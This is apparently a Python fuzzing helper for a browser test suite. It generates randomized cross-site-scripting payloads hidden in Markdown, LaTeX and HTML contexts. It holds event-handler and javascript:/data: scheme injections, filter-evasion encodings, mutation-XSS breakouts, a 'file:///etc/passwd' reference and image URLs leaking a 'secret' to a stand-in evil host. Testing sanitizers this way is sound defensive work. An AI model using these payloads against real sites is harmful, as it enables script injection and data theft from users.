"""Hostile texts by a grammar: what to run, how to hide it, and where in Markdown to put it."""

from __future__ import annotations

import random
from collections.abc import Callable

from tests.browser.hostile_text import EVIL, RUN

TAGS = (
    "img", "svg", "script", "iframe", "object", "embed", "video", "audio", "details", "body",
    "input", "button", "form", "a", "math", "style", "link", "meta", "base", "marquee", "template",
    "textarea", "select", "div", "span", "x-pwned", "animate", "foreignObject",
    "portal", "frameset",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onpointerenter",
    "onanimationstart", "onbegin", "onwheel", "onscroll", "onbeforeinput",
)  # fmt: skip
SCHEMES = (
    f"javascript:{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload={RUN}>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"{EVIL}/x.png?q=secret", "//evil.invalid/x", "file:///etc/passwd", "blob:null/1",
    "../api/shutdown", f"view-source:javascript:{RUN}", "ms-its:x", f"feed:javascript:{RUN}",
)  # fmt: skip
ADDRESSES = ("src", "href", "action", "data", "poster", "xlink:href")
MARKS = (
    "id=pwned", "class=pwned", "name=pwned", "data-pwned=1", "style='display:none'", "autofocus",
    "data-commandlinker-command=pwned", "srcdoc='<script>parent.pwned=1</script>'",
    f"srcset={EVIL}/s.png", f"background={EVIL}/b.png", f"ping={EVIL}/p",
)  # fmt: skip

Change = Callable[[random.Random, str], str]

ENCODINGS: tuple[Change, ...] = (
    lambda _, s: s,
    lambda _, s: "".join(f"&#{ord(c)};" for c in s),
    lambda _, s: "".join(f"&#x{ord(c):X}" for c in s),
    lambda _, s: "".join(f"%{ord(c):02x}" if c.isalpha() else c for c in s),
    lambda rng, s: "".join(c.upper() if rng.random() < 0.5 else c for c in s),
    lambda rng, s: _between(rng, s, ("\t", "\r", "\x00", "&Tab;", "&NewLine;", "\u200b", "\\")),
    lambda _, s: "\x01\x1f " + s,
    lambda _, s: s.replace(":", "&colon;").replace("(", "&lpar;"),
    lambda _, s: "".join(f"\\u{ord(c):04x}" for c in s),
    lambda _, s: "".join(chr(ord(c) + 0xFEE0) if c.isalpha() and c.isascii() else c for c in s),
)
BREAKS: tuple[Change, ...] = (
    lambda _, s: s,
    lambda _, s: s[:-1],
    lambda _, s: "<" + s,
    lambda _, s: f"<!--><{s}-->",
    lambda _, s: f"<![CDATA[{s}]]>",
    lambda _, s: f"<svg><style>{s}</style></svg>",
    lambda _, s: f"<math><mtext><table><mglyph><style>{s}",
    lambda _, s: f"<noscript><p title='</noscript>{s}'>",
    lambda _, s: f"<title></title>{s}</textarea>",
    lambda _, s: f'"><b>{s}</b>',
    lambda _, s: f"&lt;{s}&gt;",
    lambda rng, s: _between(rng, s, ("\x00", "\x0c", "/", "\u2028")),
    lambda _, s: "<b>" * 30 + s,
)
CONTEXTS: tuple[Change, ...] = (
    lambda _, s: s,
    lambda _, s: f"[x]({s})",
    lambda _, s: f"[x](<{s}>)",
    lambda _, s: f"[{s}](https://example.org)",
    lambda _, s: f'[x](https://example.org "{s}")',
    lambda _, s: f"![{s}]({EVIL}/alt.png)",
    lambda _, s: f"![x]({s})",
    lambda _, s: f"[![x]({s})]({s})",
    lambda _, s: f"[x][far]\n\n[far]: {s}",
    lambda _, s: f"<{s}>",
    lambda _, s: f"`{s}`",
    lambda _, s: f"```{s}\ncode\n```",
    lambda _, s: f"```html\n{s}\n```",
    lambda _, s: f"~~~r {s}\n{s}",
    lambda _, s: f"| {s} |\n| --- |\n| {s} |",
    lambda _, s: f"# {s}",
    lambda _, s: f"> - {s}",
    lambda _, s: f"${s}$",
    lambda _, s: f"$$\\text{{{s}}}$$",
    lambda _, s: f"$\\href{{{s}}}{{x}}\\htmlClass{{pwned}}{{y}}$",
    lambda _, s: f"\\[ {s} \\]",
    lambda _, s: f"**_~~{s}~~_**",
    lambda _, s: f"    {s}",
    lambda rng, s: s.replace("<", rng.choice(["\\<", "&lt;", "\uff1c", "<"])),
)


def payloads(rng: random.Random, count: int) -> list[str]:
    """So many texts, no two alike."""
    found: dict[str, None] = {}
    while len(found) < count:
        found[rng.choice(CONTEXTS)(rng, _core(rng))] = None
    return list(found)


def _core(rng: random.Random) -> str:
    """Something that would run or load: an address, or an element."""
    url = rng.choice(ENCODINGS)(rng, rng.choice(SCHEMES))
    if rng.random() < 0.35:
        return url
    tag = rng.choice(TAGS)
    if rng.random() < 0.3:
        tag = "".join(c.upper() if rng.random() < 0.5 else c for c in tag)
    quote = rng.choice(["", '"', "'", "`"])
    event = f"{rng.choice(EVENTS)}={quote}{rng.choice(ENCODINGS)(rng, RUN)}{quote}"
    address = f"{rng.choice(ADDRESSES)}={quote}{url}{quote}"
    attributes = rng.sample(
        [event, address, rng.choice(MARKS), rng.choice(MARKS)], rng.randint(1, 4)
    )
    space = rng.choice([" ", "/", "\t", "\x0c", "  "])
    inner = rng.choice(["", RUN, "x", "Click"])
    element = f"<{tag}{space}{space.join(attributes)}>{inner}</{tag}>"
    return rng.choice(BREAKS)(rng, element)


def _between(rng: random.Random, text: str, noise: tuple[str, ...]) -> str:
    at = rng.randrange(1, max(2, len(text) // 2))
    return text[:at] + rng.choice(noise) + text[at:]
